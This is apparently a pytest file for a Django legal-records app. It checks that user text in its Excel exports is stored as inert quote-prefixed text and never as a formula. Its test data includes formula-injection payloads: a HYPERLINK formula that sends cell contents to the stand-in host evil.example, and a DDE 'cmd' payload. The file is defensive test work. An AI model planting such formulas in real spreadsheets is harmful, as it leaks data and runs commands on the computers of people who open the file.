"""Exports (issue 19, section 2): no text a person typed becomes a live formula in any .xlsx the system writes."""

from __future__ import annotations

import io
import re
from pathlib import Path

import openpyxl
import pytest
from django.utils import timezone

from lawtrace.spreadsheets import FORMULA_STARTS, workbook

ROOT = Path(__file__).resolve().parent.parent
ATTACKS = ['=HYPERLINK("http://evil.example/?"&A1,"点此查看")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)",
           "\t=1+1", "=1+1"]


def cells(content: bytes) -> list:
    book = openpyxl.load_workbook(io.BytesIO(content))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value is not None]


def assert_inert(content: bytes) -> None:
    found = {cell.value: cell for cell in cells(content)}
    for attack in ATTACKS:
        cell = found.get(attack)
        assert cell is not None, f"{attack!r} not written as text"
        assert cell.data_type == "s" and cell.quotePrefix, (attack, cell.data_type)
    assert not any(cell.data_type == "f" for cell in cells(content))


def test_the_helper_writes_formula_like_text_as_quote_prefixed_text_in_any_format():
    buffer = io.BytesIO()
    book = workbook(buffer)
    bold = book.add_format({"bold": True})
    sheet = book.add_worksheet("表")
    for row, attack in enumerate(ATTACKS):
        sheet.write(row, 0, attack, bold if row % 2 else None)
        sheet.write(row, 1, "普通文字")
        sheet.write(row, 2, 42)
    book.close()
    assert_inert(buffer.getvalue())
    plain = [cell for cell in cells(buffer.getvalue()) if cell.value == "普通文字"]
    assert plain and not any(cell.quotePrefix for cell in plain)
    bold_attack = next(cell for cell in cells(buffer.getvalue()) if cell.value == ATTACKS[1])
    assert bold_attack.font.b  # the cell keeps its own format


def test_000_2_4_the_device_usage_ledger_keeps_a_hyperlink_purpose_as_text(db):
    from devices.usage_ledger import LedgerRow, xlsx
    from tests.factories import AgencyFactory

    agency = AgencyFactory()
    now = timezone.now()
    rows = [LedgerRow(device_id=1, device=attack, holder=attack, out_at=now, purpose=attack, out_by=attack,
                      back_at=now, back_by=attack, back_note=attack) for attack in ATTACKS]
    assert_inert(xlsx(agency, rows, now, now))


def test_the_access_register_keeps_typed_text_as_text(db):
    from access.register import RegisterRow, Scope, xlsx
    from tests.factories import AgencyFactory

    rows = [RegisterRow(n, timezone.now(), attack, attack, attack, attack, attack, attack, attack)
            for n, attack in enumerate(ATTACKS)]
    assert_inert(xlsx(AgencyFactory(), rows, Scope(None, None, "", len(rows))))


def test_every_spreadsheet_the_system_writes_goes_through_the_one_helper():
    writers = []
    for path in ROOT.glob("*/**/*.py"):
        if ".venv" in path.parts or "tests" in path.parts or path.name == "spreadsheets.py":
            continue
        text = path.read_text(encoding="utf-8")
        if re.search(r"xlsxwriter\.Workbook\(|csv\.writer\(|csv\.DictWriter\(", text):
            writers.append(path.relative_to(ROOT).as_posix())
    assert writers == []


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_each_formula_start_is_neutralised(start):
    buffer = io.BytesIO()
    book = workbook(buffer)
    book.add_worksheet().write(0, 0, f"{start}1+1")
    book.close()
    (cell,) = cells(buffer.getvalue())
    assert cell.data_type == "s" and cell.quotePrefix
